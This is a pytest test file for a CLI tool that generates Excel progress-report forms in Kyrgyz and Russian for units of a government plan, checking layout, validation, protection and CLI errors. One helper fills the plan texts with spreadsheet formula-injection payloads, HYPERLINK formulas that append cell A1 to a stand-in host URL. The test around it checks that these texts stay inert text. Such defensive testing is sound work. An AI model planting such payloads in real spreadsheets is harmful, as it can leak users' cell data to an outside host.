"""The unit forms: made for every unit of the sample plan, opened again with openpyxl."""

from __future__ import annotations

import io
import textwrap
from datetime import date, datetime
from pathlib import Path

import pytest
from click.testing import CliRunner
from openpyxl import load_workbook

from esep.cli import cli
from model.form_layout import COLUMNS, FORM_VERSION, LIST_SHEET, ROLE_LABELS
from model.form_layout import FIRST_ROW, HEADER_ROW
from model.forms import default_due, form_filename, form_units, unit_measures
from render.forms import form_bytes
from model.plan import Deadline, plan_from_json
from model.progress import CO_EXECUTOR, LEAD, STATUS_LABELS, STATUSES
from model.statuses import labels, status_key

SAMPLES = Path(__file__).resolve().parent.parent / "samples"
PLAN_JSON = SAMPLES / "plan-ky.expected.json"
YEAR = 2025
COL = {c.key: i for i, c in enumerate(COLUMNS, start=1)}
LETTER = {c.key: chr(64 + i) for i, c in enumerate(COLUMNS, start=1)}


@pytest.fixture(scope="module")
def plan():
    return plan_from_json(PLAN_JSON.read_text(encoding="utf-8"))


@pytest.fixture(scope="module")
def books(plan):
    """Return every unit's 2025 form, written to bytes and opened again."""
    return {u: load_workbook(io.BytesIO(form_bytes(plan, u, YEAR))) for u in form_units(plan, YEAR)}


def test_every_unit_listed_with_a_measure_in_the_year_gets_a_form(plan):
    units = form_units(plan, YEAR)
    assert set(units) == {c for m in plan.measures() if m.deadline.meets_year(YEAR)
                          for c in m.executors.codes}
    assert len(units) == 12


def test_a_unit_gets_its_measures_of_the_year_as_lead_or_co_executor(plan):
    rows = {r.measure.id: r.role for r in unit_measures(plan, "КБ", YEAR)}
    assert rows == {"2.1.1": LEAD, "2.2.1": LEAD, "3.2.1": CO_EXECUTOR, "6.2.1": LEAD,
                    "8.1.1": LEAD, "11.2.1": CO_EXECUTOR}  # 9.1.1 is for 2026–2027
    ongoing = {r.measure.id for r in unit_measures(plan, "ЭАКБ", YEAR)}
    assert ongoing == {"10.1.1", "10.1.2"}                  # "Туруктуу": every year
    assert "11.1.1" not in {r.measure.id for r in unit_measures(plan, "УКЖКААБ", YEAR)}
    assert "11.1.1" in {r.measure.id for r in unit_measures(plan, "УКЖКААБ", 2027)}


def test_every_unit_s_measures_are_those_naming_it_in_every_year(plan):
    for year in range(2024, 2029):
        for unit in plan.units() + ("НЕТ",):
            expected = tuple((m.id, LEAD if m.executors.codes[0] == unit else CO_EXECUTOR)
                             for m in plan.measures()
                             if unit in m.executors.codes and m.deadline.meets_year(year))
            got = tuple((r.measure.id, r.role) for r in unit_measures(plan, unit, year))
            assert got == expected, (unit, year)


def test_collect_walks_the_plan_once_for_the_units_not_once_per_form(monkeypatch):
    import model.forms
    from ingest.forms import collect
    fresh = plan_from_json((SAMPLES / "plan-ky.expected.json").read_text(encoding="utf-8"))
    walks = []
    real = model.forms._rows_by_unit
    monkeypatch.setattr(model.forms, "_rows_by_unit",
                        lambda plan, year: walks.append(year) or real(plan, year))
    units, real_units = [], type(fresh)._units
    monkeypatch.setattr(type(fresh), "_units", lambda self: units.append(1) or real_units(self))
    collect(fresh, [SAMPLES / "submissions" / "2025"], YEAR)  # 14 files
    assert walks == [YEAR] and units == [1]


def test_the_form_lists_the_units_measures_with_plan_text_and_role(plan, books):
    for unit, wb in books.items():
        ws = wb[wb.sheetnames[0]]
        expected = unit_measures(plan, unit, YEAR)
        ids = [ws.cell(FIRST_ROW + i, COL["id"]).value for i in range(len(expected))]
        assert ids == [r.measure.id for r in expected]
        assert ws.cell(FIRST_ROW + len(expected), COL["id"]).value is None
        for i, form_row in enumerate(expected):
            r = FIRST_ROW + i
            assert ws.cell(r, COL["measure"]).value == form_row.measure.text
            assert ws.cell(r, COL["deadline"]).value == form_row.measure.deadline.text
            assert ws.cell(r, COL["role"]).value == ROLE_LABELS["ky"][form_row.role]
        assert [ws.cell(HEADER_ROW, c).value for c in range(1, len(COLUMNS) + 1)] == \
            [c.ky for c in COLUMNS]


def test_the_header_block_names_unit_year_plan_and_due_date(plan, books):
    ws = books["ККББ"]["ККББ"]
    assert ws["C2"].value == "ККББ — КР ӨКМне караштуу Кризистик кырдаалдарда башкаруу борбору"
    assert ws["C3"].value == YEAR
    assert ws["C4"].value == plan.title
    assert ws["C5"].value.date() == default_due(YEAR) == date(2026, 1, 15)
    assert "тизмеден" in ws["A8"].value


def test_the_status_drop_down_reads_a_hidden_sheet_range(plan, books):
    for unit, wb in books.items():
        ws = wb[wb.sheetnames[0]]
        lists = wb[LIST_SHEET]
        assert lists.sheet_state == "hidden"
        # the form's own words first, then the Russian spellings, accepted as well
        assert [lists.cell(r, 1).value for r in range(1, 9)] == [*labels("ky"), *labels("ru")]
        status = [dv for dv in ws.data_validations.dataValidation if dv.type == "list"]
        assert len(status) == 1
        assert status[0].formula1 == f"{LIST_SHEET}!$A$1:$A$8"
        rows = range(FIRST_ROW, FIRST_ROW + len(unit_measures(plan, unit, YEAR)))
        col = LETTER["status"]
        assert all(f"{col}{r}" in status[0] for r in rows)
        assert f"{col}{rows[-1] + 1}" not in status[0] and f"{LETTER['done']}{FIRST_ROW}" \
            not in status[0]
        assert status[0].showErrorMessage
        assert status[0].showInputMessage and status[0].promptTitle == "Статус"
        assert [line.split(" — ")[0] for line in status[0].prompt.splitlines()] == \
            list(labels("ky"))  # what each status means, one line each
        assert len(status[0].prompt) <= 255  # Excel shows no more


def test_the_date_typed_in_the_header_is_checked_in_the_forms_language(books):
    ws = books["КБ"][books["КБ"].sheetnames[0]]
    dates = [dv for dv in ws.data_validations.dataValidation if dv.type == "date"]
    assert [(dv.errorTitle, str(dv.sqref)) for dv in dates] == [("Күнү", "C6")]
    assert "ДД.ММ.ГГГГ" in dates[0].error


def rules(ws) -> dict[str, list[str]]:
    """Return the sheet's conditional formatting as range -> formulas."""
    return {str(cf.sqref): [f for rule in cf.rules for f in rule.formula]
            for cf in ws.conditional_formatting}


def test_rows_with_a_mistake_turn_red_by_conditional_formatting(plan, books):
    rows = unit_measures(plan, "УКЖКААБ", YEAR)
    ws = books["УКЖКААБ"][books["УКЖКААБ"].sheetnames[0]]
    last = FIRST_ROW + len(rows) - 1
    found = rules(ws)
    g, h, k = LETTER["status"], LETTER["done"], LETTER["reasons"]
    assert found[f"A{FIRST_ROW}:K{last}"] == [
        f'AND(OR(TRIM(${g}{FIRST_ROW})="аткарылды",TRIM(${g}{FIRST_ROW})="выполнено"),'
        f'LEN(TRIM(${h}{FIRST_ROW}))=0)',
        f'AND(OR(TRIM(${g}{FIRST_ROW})="аткарылган жок",TRIM(${g}{FIRST_ROW})="не выполнено"),'
        f'LEN(TRIM(${k}{FIRST_ROW}))=0)']
    # the rows of measures whose period has ended by the year's end, red while no status is chosen
    overdue = [r for r, row in enumerate(rows, start=FIRST_ROW)
               if row.measure.deadline.has_ended_by(YEAR)]
    assert overdue == [10, 11, 13, 22, 23]   # 1.1.1, 2.1.1, 3.1.1, 12.1.1, 12.2.1
    assert found[" ".join(f"A{r}:K{r}" for r in overdue)] == [f"LEN(TRIM(${g}10))=0"]
    for cf in ws.conditional_formatting:
        assert all(rule.dxf.fill.bgColor.rgb.endswith("FFC7CE") for rule in cf.rules)


def test_a_form_without_overdue_measures_has_no_overdue_rule(plan, books):
    ws = books["ЭАКБ"][books["ЭАКБ"].sheetnames[0]]   # "Туруктуу" measures only
    assert len(rules(ws)) == 1


def test_the_sheet_is_protected_without_password_and_only_input_cells_open(books):
    for wb in books.values():
        ws = wb[wb.sheetnames[0]]
        assert ws.protection.sheet and not ws.protection.password
        r = FIRST_ROW
        for column in COLUMNS:
            cell = ws.cell(r, COL[column.key])
            assert cell.protection.locked is (not column.is_input), column.key
            if column.is_input:
                assert cell.number_format == "@"  # "-5 %" or "=" typed in stays text
        assert not ws["C6"].protection.locked and not ws["C7"].protection.locked
        assert ws["C2"].protection.locked


def test_the_page_is_set_for_reading_and_printing(books):
    ws = books["УКЖКААБ"]["УКЖКААБ"]
    assert ws.freeze_panes == f"A{FIRST_ROW}"
    assert ws.page_setup.orientation == "landscape"
    assert ws.page_setup.fitToWidth == 1 and ws.page_setup.fitToHeight == 0
    assert ws.sheet_properties.pageSetUpPr.fitToPage
    assert ws.print_title_rows == f"${HEADER_ROW}:${HEADER_ROW}"
    assert ws.column_dimensions[LETTER["done"]].width == max(c.width for c in COLUMNS)
    assert ws.cell(FIRST_ROW, COL["measure"]).alignment.wrap_text


def test_the_form_prints_on_a4_across_at_two_thirds_scale_or_more(books):
    """Excel's width unit is the default font's digit, 7 px in Arial 10: w units take 7w + 5 px."""
    ws = books["УКЖКААБ"]["УКЖКААБ"]
    table_points = sum(7 * ws.column_dimensions[LETTER[c.key]].width + 5 for c in COLUMNS) * 0.75
    paper_points = (297 / 25.4 - ws.page_margins.left - ws.page_margins.right) * 72
    assert int(ws.page_setup.paperSize) == int(ws.PAPERSIZE_A4)
    assert paper_points / table_points >= 0.65


def test_every_cell_is_set_in_arial_the_workbooks_own_font(books):
    wb = books["УКЖКААБ"]
    ws = wb["УКЖКААБ"]
    assert (wb._fonts[0].name, wb._fonts[0].sz) == ("Arial", 10)  # sets the unit of column widths
    fonts = {(cell.font.name, cell.font.sz) for row in ws.iter_rows(max_row=ws.max_row)
             for cell in row if cell.value is not None}
    assert {name for name, _ in fonts} == {"Arial"}
    assert ws.cell(FIRST_ROW, COL["measure"]).font.sz < ws.cell(FIRST_ROW, COL["done"]).font.sz


def test_each_row_is_tall_enough_for_its_wrapped_text(books):
    """As LibreOffice prints Arial 9: 1.2 characters per unit of width, 10.5 points a line."""
    for wb in books.values():
        ws = wb.worksheets[0]
        for row in ws.iter_rows(min_row=HEADER_ROW):
            for column, cell in zip(COLUMNS, row):
                lines = len(textwrap.wrap(str(cell.value or ""), int(column.width * 1.2)))
                if lines:
                    assert ws.row_dimensions[cell.row].height >= lines * 10.5, cell.coordinate


def test_the_hidden_identity_is_in_properties_and_defined_names(plan, books):
    for unit, wb in books.items():
        props = {p.name: p.value for p in wb.custom_doc_props}
        assert props == {"esep.plan": plan.fingerprint(), "esep.unit": unit,
                         "esep.year": str(YEAR), "esep.form_version": FORM_VERSION}
        assert wb.defined_names["esep_unit"].attr_text == f'"{unit}"'
        assert wb.defined_names["esep_plan"].attr_text == f'"{plan.fingerprint()}"'


def test_a_russian_plan_gets_russian_headers_and_statuses():
    ru = plan_from_json((Path(__file__).parent / "data" / "plan-ru.expected.json")
                        .read_text(encoding="utf-8"))
    year = next(y for y in range(2024, 2031) if form_units(ru, y))
    unit = form_units(ru, year)[0]
    wb = load_workbook(io.BytesIO(form_bytes(ru, unit, year)))
    ws = wb[wb.sheetnames[0]]
    assert ws.cell(HEADER_ROW, COL["status"]).value == "Статус (выберите из списка)"
    assert [wb[LIST_SHEET].cell(r, 1).value for r in range(1, 9)] == [*labels("ru"), *labels("ky")]
    dates = [dv for dv in ws.data_validations.dataValidation if dv.type == "date"]
    assert dates[0].errorTitle == "Дата" and "ДД.ММ.ГГГГ" in dates[0].error


@pytest.mark.parametrize("typed, key", [
    ("аткарылды", "done"), ("  Выполнено ", "done"), ("АТКАРЫЛДЫ", "done"),
    ("в процессе  исполнения", "in_progress"), ("Аткарылууда.", "in_progress"),
    ("не выполнено", "not_done"), ("аткарылган   жок", "not_done"),
    ("Срок не наступил", "not_yet_due"), ("мөөнөтү келе элек", "not_yet_due"),
    ("бүттү", None), ("", None)])
def test_statuses_are_read_in_either_language_any_case_stray_spaces(typed, key):
    assert status_key(typed) == key


def test_every_drop_down_label_reads_back_as_its_status():
    for language, table in STATUS_LABELS.items():
        assert [status_key(table[k]) for k in STATUSES] == list(STATUSES), language


def test_deadline_annual_without_years_meets_every_year_and_ends_with_it():
    annual = Deadline("жыл сайын", annual=True)
    assert annual.meets_year(2026) and annual.has_ended_by(2026)
    ongoing = Deadline("Туруктуу", ongoing=True)
    assert ongoing.meets_year(2025) and not ongoing.has_ended_by(2027)
    span = Deadline("2025–2027-жылдар", date(2025, 1, 1), date(2027, 12, 31))
    assert not span.has_ended_by(2025) and span.has_ended_by(2027)
    assert Deadline("2025-жыл", date(2025, 1, 1), date(2025, 12, 31)).has_ended_by(2025)


def test_esep_forms_writes_one_file_per_unit(tmp_path):
    out = tmp_path / "forms"
    result = CliRunner().invoke(cli, ["forms", str(PLAN_JSON), "--year", "2025", "-o", str(out),
                                      "--due", "20.01.2026"])
    assert result.exit_code == 0, result.output
    assert sorted(p.name for p in out.iterdir()) == sorted(
        form_filename(u, YEAR) for u in form_units(plan_from_json(PLAN_JSON.read_text()), YEAR))
    assert result.output.splitlines()[-1] == f"12 forms for 2025 in {out}"
    assert "wrote " + str(out / "2025-ДКЖАКБ.xlsx") + "  (1 measure: 0 as lead, 1 as co-executor)" \
        in result.output
    ws = load_workbook(out / "2025-КБ.xlsx")["КБ"]
    assert ws["C5"].value == datetime(2026, 1, 20)


def test_esep_forms_for_an_unknown_unit_says_so_in_one_line(tmp_path):
    result = CliRunner().invoke(cli, ["forms", str(PLAN_JSON), "--year", "2025", "-o",
                                      str(tmp_path), "--unit", "ХХХ"])
    assert result.exit_code == 1
    assert len(result.output.strip().splitlines()) == 1 and "no unit ХХХ" in result.output


def test_esep_forms_unit_is_read_as_the_plan_reads_codes(tmp_path):
    result = CliRunner().invoke(cli, ["forms", str(PLAN_JSON), "--year", "2025", "-o",
                                      str(tmp_path), "--unit", "Kб", "--unit", "ККББ"])
    assert result.exit_code == 0, result.output
    assert sorted(p.name for p in tmp_path.iterdir()) == ["2025-КБ.xlsx", "2025-ККББ.xlsx"]


def test_esep_forms_for_a_year_outside_the_plan_fails(tmp_path):
    result = CliRunner().invoke(cli, ["forms", str(PLAN_JSON), "--year", "2031", "-o",
                                      str(tmp_path)])
    assert result.exit_code == 1 and "no measure of the plan is to be reported for 2031" \
        in result.output


def test_esep_forms_refuses_to_replace_a_form_already_there(tmp_path):
    returned = tmp_path / "2025-КБ.xlsx"
    returned.write_bytes(b"a filled form")
    args = ["forms", str(PLAN_JSON), "--year", "2025", "-o", str(tmp_path)]
    result = CliRunner().invoke(cli, args)
    assert result.exit_code == 1
    assert result.output == (f"Error: {returned}: exists (a returned form?): give another "
                             "folder, or --force to replace it\n")
    assert returned.read_bytes() == b"a filled form"
    assert [p.name for p in tmp_path.iterdir()] == ["2025-КБ.xlsx"]  # nothing written at all
    result = CliRunner().invoke(cli, args + ["--force"])
    assert result.exit_code == 0, result.output
    assert load_workbook(returned)["КБ"]["A1"].value


@pytest.mark.parametrize("due", ["01.01.2020", "31.12.2025"])
def test_esep_forms_refuses_a_due_date_before_the_year_ends(tmp_path, due):
    result = CliRunner().invoke(cli, ["forms", str(PLAN_JSON), "--year", "2025", "-o",
                                      str(tmp_path / "forms"), "--due", due])
    assert result.exit_code == 1
    assert result.output == (f"Error: the due date {due} is not after the end of 2025: the form "
                             "reports the whole year; give a date in 2026 (by default "
                             "15.01.2026)\n")
    assert not (tmp_path / "forms").exists()


# --- last year's answer beside each measure -----------------------------------------------

@pytest.fixture(scope="module")
def last_year():
    from model.progress import progress_from_json
    return progress_from_json((SAMPLES / "submissions" / "2025.expected.json")
                              .read_text(encoding="utf-8"))


def test_last_years_answer_names_status_and_work_and_marks_overdue(last_year):
    from model.form_layout import previous_answer
    lead = previous_answer(last_year, "6.2.1", "КБ", "ky")          # overdue in 2025
    assert lead.overdue
    assert lead.text.split("\n")[:2] == ["МӨӨНӨТҮ ӨТҮП КЕТКЕН", "аткарылган жок"]
    assert "«Түндүк» ВЭӨС менен интеграциялоонун" in lead.text      # its reasons, as typed
    co = previous_answer(last_year, "2.2.1", "УКЖКААБ", "ru")        # a co-executor's own
    assert co.text.split("\n")[0] == "в процессе исполнения" and not co.overdue
    assert "конкурстук комиссиянын" in co.text
    silent = previous_answer(last_year, "2.1.1", "ДКЖАКБ", "ky")
    assert silent.text == "маалымат берилген эмес"
    new = previous_answer(last_year, "9.1.1", "КБ", "ky")            # 2026–2027 only
    assert new.text == "2025-жылы суралган эмес"


def test_a_form_with_last_year_gets_a_locked_grey_column_before_the_status(plan, last_year):
    from model.form_layout import PREVIOUS_KEY, column_key
    wb = load_workbook(io.BytesIO(form_bytes(plan, "ММК", 2026, last_year=last_year)))
    ws = wb[wb.sheetnames[0]]
    keys = [column_key(c.value) for c in ws[HEADER_ROW]]
    assert keys == ["id", "task", "measure", "deadline", "expected", "role", PREVIOUS_KEY,
                    "status", "done", "figures", "documents", "reasons"]
    assert ws.cell(HEADER_ROW, 7).value == "2025: статус / аткарылды"
    by_id = {ws.cell(r, 1).value: ws.cell(r, 7) for r in range(FIRST_ROW, ws.max_row + 1)}
    overdue, running = by_id["12.2.1"], by_id["6.5.1"]  # 12.2.1: annual, overdue in 2025
    assert overdue.value.split("\n")[:2] == ["МӨӨНӨТҮ ӨТҮП КЕТКЕН", "мөөнөтү келе элек"]
    assert overdue.font.bold and overdue.protection.locked
    assert overdue.fill.fgColor.rgb.endswith("E7E6E6")
    assert running.value.split("\n")[0] == "аткарылууда" and not running.font.bold
    assert ws.print_area == f"'{ws.title}'!$A$1:$L${HEADER_ROW + len(by_id)}"
    assert "2025-жылы берген жообу" in ws["A8"].value


def test_last_year_must_be_an_earlier_year(plan, last_year):
    from model.errors import EsepError
    with pytest.raises(EsepError, match="give a year before 2025"):
        form_bytes(plan, "КБ", 2025, last_year=last_year)


def test_esep_forms_last_year_of_the_same_year_or_another_plan_is_refused(tmp_path):
    progress = SAMPLES / "submissions" / "2025.expected.json"
    base = ["forms", "--year", "2025", "-o", str(tmp_path / "f"), "--last-year", str(progress)]
    result = CliRunner().invoke(cli, [*base[:1], str(SAMPLES / "plan-ky.docx"), *base[1:]])
    assert result.exit_code == 1
    assert result.output == (f"Error: {progress}: this is the progress of 2025; --last-year takes "
                             "a year before 2025\n")
    v2 = ["forms", str(SAMPLES / "plan-ky-v2.docx"), "--year", "2026", "-o",
          str(tmp_path / "f"), "--last-year", str(progress)]
    result = CliRunner().invoke(cli, v2)
    assert result.exit_code == 1 and "give that version with --previous-plan" in result.output
    result = CliRunner().invoke(cli, v2 + ["--previous-plan", str(SAMPLES / "plan-ky.docx")])
    assert result.exit_code == 0, result.output
    assert "each form shows the unit's answers of 2025" in result.output
    assert not (tmp_path / "f").joinpath("2025-КБ.xlsx").exists()
    result = CliRunner().invoke(cli, ["forms", str(SAMPLES / "plan-ky.docx"), "--year", "2025",
                                      "-o", str(tmp_path / "g"), "--previous-plan",
                                      str(SAMPLES / "plan-ky.docx")])
    assert result.exit_code == 2 and "--previous-plan goes with --last-year" in result.output


FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def _plan_with_formula_texts(plan):
    """Return `plan` with every text a form shows starting with one of FORMULA_STARTS."""
    from dataclasses import replace
    hostile = iter(f'{FORMULA_STARTS[i % 6]}HYPERLINK("http://x.example/"&A1,"Click{i}")'
                   for i in range(10_000))
    sections = tuple(replace(s, tasks=tuple(
        replace(t, text=next(hostile), measures=tuple(
            replace(m, text=next(hostile), expected_result=next(hostile),
                    deadline=replace(m.deadline, text=next(hostile)))
            for m in t.measures))
        for t in s.tasks)) for s in plan.sections)
    glossary = tuple(replace(g, name=next(hostile)) for g in plan.glossary)
    return replace(plan, title="=1+1", sections=sections, glossary=glossary)


def test_plan_texts_starting_like_a_formula_stay_text(plan):
    import zipfile
    hostile = _plan_with_formula_texts(plan)
    for unit in form_units(hostile, YEAR):
        data = form_bytes(hostile, unit, YEAR)
        with zipfile.ZipFile(io.BytesIO(data)) as z:
            for name in z.namelist():
                if name.startswith("xl/worksheets/"):
                    assert b"<f>" not in z.read(name) and b"<f " not in z.read(name), (unit, name)
        ws = load_workbook(io.BytesIO(data)).worksheets[0]
        rows = unit_measures(hostile, unit, YEAR)
        for offset, form_row in enumerate(rows):
            cell = ws.cell(FIRST_ROW + offset, COL["measure"])
            assert cell.data_type == "s" and cell.quotePrefix
            assert cell.value.replace("\r", "\n") == form_row.measure.text.replace("\r", "\n")
        assert ws["C4"].value == "=1+1" and ws["C4"].data_type == "s"


def test_ctrl_c_while_forms_are_written_leaves_the_folder_as_it_was(tmp_path, monkeypatch):
    import render.forms  # esep forms imports it when it runs
    real, made = render.forms.form_bytes, []

    def interrupted(*args, **kwargs):
        if len(made) == 5:
            raise KeyboardInterrupt
        made.append(args[1])
        return real(*args, **kwargs)
    monkeypatch.setattr(render.forms, "form_bytes", interrupted)
    out = tmp_path / "forms"
    args = ["forms", str(PLAN_JSON), "--year", str(YEAR), "-o", str(out)]
    result = CliRunner().invoke(cli, args)
    assert result.exit_code == 130 and "Traceback" not in result.output
    assert result.stderr.strip().splitlines() == [
        "Error: interrupted: nothing was half-written; run the command again"]
    assert list(out.iterdir()) == []  # no form, no temporary folder
    monkeypatch.setattr(render.forms, "form_bytes", real)
    again = CliRunner().invoke(cli, args)  # and it runs again, nothing "exists"
    assert again.exit_code == 0, again.output
    assert len(list(out.iterdir())) == len(form_units(plan_from_json(
        PLAN_JSON.read_text(encoding="utf-8")), YEAR))


@pytest.mark.parametrize("command", ["ingest", "forms", "collect", "report", "publish", "diff"])
def test_every_command_says_what_it_does_with_an_existing_output(command):
    result = CliRunner().invoke(cli, [command, "--help"])
    assert "replaced" in " ".join(result.output.split()), result.output
